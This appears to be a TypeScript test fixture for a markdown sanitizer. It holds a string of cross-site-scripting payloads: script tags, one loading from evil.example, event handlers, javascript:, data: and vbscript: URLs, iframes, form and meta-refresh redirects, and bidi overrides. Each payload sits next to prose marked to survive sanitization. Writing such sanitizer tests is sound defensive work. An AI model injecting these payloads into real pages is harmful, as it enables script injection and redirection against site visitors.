/**
 * Markdown a careless or hostile contributor could commit to `content/reports/` or `content/writeups/`: raw HTML,
 * event handlers, script URLs (plain, upper case, entity-encoded, in references and autolinks), frames, inline
 * styles, form and meta tricks, and bidirectional overrides. The sanitized page must keep the prose and lose every
 * one of these. Markers (`SAFE-…`) are prose that must survive.
 */

export const HOSTILE_MARKDOWN_SLUG = "hostile-markdown";

/** Characters that reorder text: LRE, RLE, PDF, LRO, RLO, LRI, RLI, FSI, PDI. */
export const BIDI_CONTROL_PATTERN = /[\u202A-\u202E\u2066-\u2069]/;

export const HOSTILE_MARKDOWN = `
# SAFE-heading

SAFE-paragraph with *emphasis* and a [SAFE-link](https://example.org/ok) and a [SAFE-relative](/donors/).

<script>alert("block script")</script>

Inline <script>alert("inline script")</script> SAFE-after-inline-script.

<SCRIPT SRC=//evil.example/x.js></SCRIPT>

<img src=x onerror="alert('img onerror')">

<svg onload=alert(1)><circle r="10"/></svg>

<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>

[js link](javascript:alert(1)) [JS LINK](JAVASCRIPT:alert(1)) [encoded](&#106;avascript:alert(1))
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox(1))
![data image](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)
<javascript:alert(1)> [reference link][evil]

[evil]: javascript:alert(1)

<iframe src="https://evil.example/"></iframe>

<iframe srcdoc="<script>alert(1)</script>"></iframe>

<p style="background:url(javascript:alert(1))">styled paragraph</p>

<div style="position:fixed;inset:0">overlay</div>

<style>body { display: none }</style>

<a href="javascript:alert(1)">raw anchor</a>

<details open ontoggle=alert(1)><summary>x</summary></details>

<form action="https://evil.example/"><button formaction="https://evil.example/">pay</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<base href="https://evil.example/">

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">

<link rel="stylesheet" href="https://evil.example/x.css">

<!-- <script>alert("comment")</script> -->

SAFE-bidi: the amount is \u202E0001\u202C LIBRA, and \u2067isolated\u2069 text.

\`\`\`html
<script>alert("SAFE-code-block")</script>
\`\`\`

| SAFE-table | b |
|---|---|
| <img src=x onerror=alert(1)> | 2 |
`;
